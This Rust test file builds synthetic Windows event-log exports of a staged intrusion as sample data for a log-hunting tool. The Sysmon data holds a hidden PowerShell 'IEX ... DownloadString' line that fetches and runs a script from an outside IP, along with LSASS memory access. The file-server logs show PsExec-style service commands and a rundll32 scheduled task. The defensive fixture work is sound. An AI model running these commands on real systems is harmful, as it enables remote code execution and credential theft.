//! The sample of `make demo`: one intrusion in three exports, an EVTX file, a gzip of JSON lines and a zip.
//!
//! The files lie in `tests/samples`; this file says what is in them. `make accept` writes them again; otherwise the test
//! compares what they hold, not their bytes, so that another version of a compressor changes nothing.

use std::io::Read as _;
use std::path::{Path, PathBuf};

use serde_json::{Value, json};

use crate::support::encode::binary_xml::{Element, Record, evtx};
use crate::support::samples::{gzip, zip};

fn folder() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/samples")
}

/// A flat event as NXLog writes it.
fn flat(channel: &str, source: &str, id: u32, host: &str, time: &str, record: u32, fields: &Value) -> Value {
    let mut event = json!({
        "@timestamp": format!("2026-03-02T{time}Z"), "Channel": channel, "EventID": id, "SourceName": source,
        "Hostname": host, "RecordNumber": record,
    });
    for (name, value) in fields.as_object().unwrap() {
        event[name] = value.clone();
    }
    event
}

fn sysmon(id: u32, time: &str, record: u32, fields: &Value) -> Value {
    flat("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", id, "ws07.corp.example", time, record, fields)
}

/// The workstation: a document starts a shell, a script is fetched, the memory of LSASS is read; and an ordinary morning.
fn workstation() -> String {
    let process = |image: &str, command: &str, parent: &str| {
        let name = image.rsplit('\\').next().unwrap();
        json!({"Image": image, "CommandLine": command, "ParentImage": parent, "ParentCommandLine": parent, "User": "CORP\\alice", "OriginalFileName": name, "IntegrityLevel": "Medium", "CurrentDirectory": "C:\\Users\\alice\\"})
    };
    let explorer = "C:\\Windows\\explorer.exe";
    let word = "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE";
    let shell = "C:\\Windows\\System32\\cmd.exe";
    let powershell = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
    let programs = ["chrome.exe", "teams.exe", "notepad.exe", "excel.exe", "calc.exe", "mstsc.exe"];
    let mut events: Vec<Value> = (0..48_u32)
        .map(|i| {
            let program = programs[i as usize % programs.len()];
            let image = format!("C:\\Program Files\\Apps\\{program}");
            sysmon(
                1,
                &format!("{:02}:{:02}:11.500", 8 + i / 24, i * 5 / 2 % 60),
                5000 + i,
                &process(&image, &format!("\"{image}\""), explorer),
            )
        })
        .collect();
    events.extend([
        sysmon(1, "10:12:01.113", 5101, &process(word, "\"WINWORD.EXE\" /n \"C:\\Users\\alice\\Downloads\\offer.docm\"", explorer)),
        sysmon(1, "10:12:03.480", 5102, &process(shell, "cmd.exe /c powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", word)),
        sysmon(1, "10:12:03.702", 5103, &process(powershell, "powershell -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", shell)),
        flat("Microsoft-Windows-PowerShell/Operational", "Microsoft-Windows-PowerShell", 4104, "ws07.corp.example", "10:12:04.019", 812,
            &json!({"MessageNumber": "1", "MessageTotal": "1", "ScriptBlockText": "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')", "ScriptBlockId": "9f0c2a1e-7a55-4a43-9f2f-0b1b6f6a1c10"})),
        sysmon(11, "10:12:05.250", 5104, &json!({"Image": powershell, "TargetFilename": "C:\\Users\\alice\\AppData\\Local\\Temp\\m.exe", "CreationUtcTime": "2026-03-02 10:12:05.249", "User": "CORP\\alice"})),
        sysmon(10, "10:13:20.067", 5105, &json!({"SourceImage": "C:\\Users\\alice\\AppData\\Local\\Temp\\m.exe", "TargetImage": "C:\\Windows\\System32\\lsass.exe", "GrantedAccess": "0x1010", "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4", "SourceUser": "CORP\\alice", "TargetUser": "NT AUTHORITY\\SYSTEM"})),
        sysmon(3, "10:14:02.900", 5106, &json!({"Image": "System", "DestinationIp": "10.20.0.11", "DestinationPort": "445", "SourceIp": "10.20.0.44", "SourcePort": "50412", "Protocol": "tcp", "Initiated": "true"})),
    ]);
    events.iter().map(|event| format!("{event}\n")).collect()
}

/// The domain controller, as winlogbeat 8 writes it: many names and one password.
fn domain_controller() -> String {
    let users = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "svc-deploy"];
    let failed = users.iter().enumerate().map(|(i, user)| {
        json!({
            "@timestamp": format!("2026-03-02T09:58:{:02}.{:03}Z", 10 + i, 37 * i),
            "event": {"code": "4625", "provider": "Microsoft-Windows-Security-Auditing"},
            "host": {"name": "dc01.corp.example"},
            "winlog": {
                "channel": "Security", "event_id": "4625", "provider_name": "Microsoft-Windows-Security-Auditing", "record_id": 70_100 + i,
                "computer_name": "dc01.corp.example",
                "event_data": {"SubjectUserName": "-", "TargetUserName": user, "TargetDomainName": "CORP", "Status": "0xc000006d", "SubStatus": "0xc000006a", "LogonType": "3", "WorkstationName": "WS07", "IpAddress": "10.20.0.44", "IpPort": "0"}
            }
        })
    });
    failed.map(|event| format!("{event}\n")).collect()
}

/// The file server's System log, as a PowerShell export: a JSON array.
fn file_server_system() -> String {
    let event = |id: u32, time: &str, record: u32, fields: &Value| {
        flat("System", "Service Control Manager", id, "fs01.corp.example", time, record, fields)
    };
    let service = |name: &str, path: &str| json!({"ServiceName": name, "ImagePath": path, "ServiceType": "user mode service", "StartType": "demand start", "AccountName": "LocalSystem"});
    let events = json!([
        event(7045, "07:30:12.004", 900, &service("Backup Agent", "\"C:\\Program Files\\Backup\\agent.exe\" --service")),
        event(7036, "08:00:01.000", 901, &json!({"param1": "Windows Update", "param2": "running"})),
        event(7045, "10:15:33.118", 902, &service("PSEXESVC", "%SystemRoot%\\PSEXESVC.exe")),
        event(
            7045,
            "10:16:40.551",
            903,
            &service("WinSvcHelp", "%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\ADMIN$\\__out > %TEMP%\\x.bat")
        ),
    ]);
    format!("{events:#}\n")
}

/// One event of the file server's Security log.
struct SecurityEvent {
    id: u32,
    /// Time of the day.
    time: String,
    fields: Vec<(&'static str, String)>,
}

/// The file server's Security log: a morning of ordinary access, a program written to ADMIN$ by a stolen account, a task,
/// and the log cleared.
fn file_server_security() -> Vec<SecurityEvent> {
    let event = |id: u32, time: &str, fields: &[(&'static str, &str)]| SecurityEvent {
        id,
        time: time.to_owned(),
        fields: fields.iter().map(|(name, value)| (*name, (*value).to_owned())).collect(),
    };
    let access = |time: &str,
                  user: &'static str,
                  address: &'static str,
                  port: &'static str,
                  share: &'static str,
                  target: &'static str,
                  mask: &'static str| {
        event(
            5145,
            time,
            &[
                ("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-1104"),
                ("SubjectUserName", user),
                ("SubjectDomainName", "CORP"),
                ("SubjectLogonId", "0x5d2f11"),
                ("ObjectType", "File"),
                ("IpAddress", address),
                ("IpPort", port),
                ("ShareName", share),
                ("ShareLocalPath", "\\??\\C:\\Windows"),
                ("RelativeTargetName", target),
                ("AccessMask", mask),
                ("AccessList", "%%4417\n\t\t\t\t"),
                ("AccessReason", "-"),
            ],
        )
    };
    let documents = ["reports\\q1.xlsx", "reports\\q2.xlsx", "hr\\plan.docx", "install\\setup.exe", "it\\readme.txt"];
    let mut events: Vec<SecurityEvent> = (0..40_usize)
        .map(|i| {
            access(
                &format!("{:02}:{:02}:20.250", 8 + i / 20, i * 3 % 60),
                "alice",
                "10.20.0.44",
                "50301",
                "\\\\*\\Data",
                documents[i % documents.len()],
                "0x2",
            )
        })
        .collect();
    events.extend([
        event(4624, "10:15:29.871", &[("SubjectUserName", "-"), ("TargetUserName", "svc-deploy"), ("TargetDomainName", "CORP"), ("LogonType", "3"), ("LogonProcessName", "NtLmSsp "), ("AuthenticationPackageName", "NTLM"), ("WorkstationName", "WS07"), ("IpAddress", "10.20.0.44"), ("IpPort", "50412")]),
        access("10:15:30.102", "svc-deploy", "10.20.0.44", "50412", "\\\\*\\ADMIN$", "PSEXESVC.exe", "0x120196"),
        access("10:15:30.250", "svc-deploy", "10.20.0.44", "50412", "\\\\*\\ADMIN$", "PSEXESVC.exe", "0x2"),
        access("10:15:30.391", "svc-deploy", "10.20.0.44", "50412", "\\\\*\\ADMIN$", "PSEXESVC.exe", "0x2"),
        access("10:15:58.007", "svc-deploy", "10.20.0.44", "50415", "\\\\*\\C$", "ProgramData\\help.dll", "0x2"),
        access("10:16:01.660", "svc-deploy", "10.20.0.44", "50415", "\\\\*\\C$", "ProgramData\\notes.txt", "0x2"),
        event(4698, "10:17:12.420", &[("SubjectUserName", "svc-deploy"), ("SubjectDomainName", "CORP"), ("SubjectLogonId", "0x5d2f11"), ("TaskName", "\\HelpUpdate"), ("TaskContent", "<Task><Actions><Exec><Command>rundll32.exe</Command><Arguments>C:\\ProgramData\\help.dll,Run</Arguments></Exec></Actions></Task>")]),
        event(4732, "10:18:44.003", &[("MemberName", "-"), ("MemberSid", "S-1-5-21-1004336348-1177238915-682003330-1104"), ("TargetUserName", "Administrators"), ("TargetDomainName", "Builtin"), ("TargetSid", "S-1-5-32-544"), ("SubjectUserSid", "S-1-5-21-1004336348-1177238915-682003330-500"), ("SubjectUserName", "svc-deploy"), ("SubjectDomainName", "CORP")]),
    ]);
    events
}

/// 100 ns since 1601 of a time on the day of the sample (2026-03-02).
fn filetime(time: &str) -> u64 {
    let us = retrohunt::event::parse_iso_time(&format!("2026-03-02T{time}Z")).unwrap();
    (u64::try_from(us).unwrap() + 11_644_473_600_000_000) * 10
}

fn security_record(number: usize, event: &SecurityEvent) -> Record {
    let id = 349_300 + number as u64;
    let leaf = |name: &str, text: &str| Element::new(name).text(text);
    let system = Element::new("System").children([
        Element::new("Provider")
            .attribute("Name", "Microsoft-Windows-Security-Auditing")
            .attribute("Guid", "{54849625-5478-4994-A5BA-3E3B0328C30D}"),
        leaf("EventID", &event.id.to_string()),
        leaf("Version", "0"),
        leaf("Level", "0"),
        leaf("Task", "12811"),
        leaf("Opcode", "0"),
        leaf("Keywords", "0x8020000000000000"),
        Element::new("TimeCreated").attribute("SystemTime", &format!("2026-03-02T{}Z", event.time)),
        leaf("EventRecordID", &id.to_string()),
        Element::new("Correlation"),
        Element::new("Execution").attribute("ProcessID", "4").attribute("ThreadID", "5012"),
        leaf("Channel", "Security"),
        leaf("Computer", "fs01.corp.example"),
        Element::new("Security"),
    ]);
    let data = event.fields.iter().map(|(name, value)| Element::new("Data").attribute("Name", name).text(value));
    let root = Element::new("Event")
        .attribute("xmlns", "http://schemas.microsoft.com/win/2004/08/events/event")
        .children([system, Element::new("EventData").children(data)]);
    Record { id, filetime: filetime(&event.time), root }
}

/// The files: name, bytes.
fn files() -> Vec<(&'static str, Vec<u8>)> {
    let records: Vec<Record> = file_server_security().iter().enumerate().map(|(i, event)| security_record(i, event)).collect();
    let export = zip(&[("dc01/security.json", domain_controller().as_bytes()), ("fs01/system.json", file_server_system().as_bytes())]);
    vec![("fs01-security.evtx", evtx(&records)), ("ws07.jsonl.gz", gzip(workstation().as_bytes())), ("export.zip", export)]
}

/// What a file holds, free of its compressor.
fn content(name: &str, bytes: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    if name.ends_with(".gz") {
        flate2::read::GzDecoder::new(bytes).read_to_end(&mut out).unwrap();
    } else if name.ends_with(".zip") {
        let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
        for i in 0..zip.len() {
            let mut member = zip.by_index(i).unwrap();
            out.extend(member.name().unwrap().as_bytes());
            member.read_to_end(&mut out).unwrap();
        }
    } else {
        out.extend(bytes);
    }
    out
}

#[test]
fn the_sample_holds_what_is_described_here() {
    for (name, bytes) in files() {
        let path = folder().join(name);
        if std::env::var_os("RETROHUNT_ACCEPT").is_some() {
            std::fs::write(&path, &bytes).unwrap();
        }
        let found = std::fs::read(&path).unwrap_or_else(|e| panic!("{}: {e}; `make accept` writes it", path.display()));
        assert!(
            content(name, &found) == content(name, &bytes),
            "{} is not what tests/it/sample_files.rs says; `make accept` writes it",
            path.display()
        );
    }
}

#[test]
fn the_evtx_of_the_sample_is_one() {
    let bytes = std::fs::read(folder().join("fs01-security.evtx")).unwrap();
    let mut parser = evtx::EvtxParser::from_buffer(bytes).unwrap();
    let records: Vec<String> = parser.records_json().map(|record| record.unwrap().data).collect();
    assert_eq!(records.len(), file_server_security().len());
    assert!(records.iter().any(|r| r.contains("PSEXESVC.exe") && r.contains("fs01.corp.example")), "{}", records[41]);
}
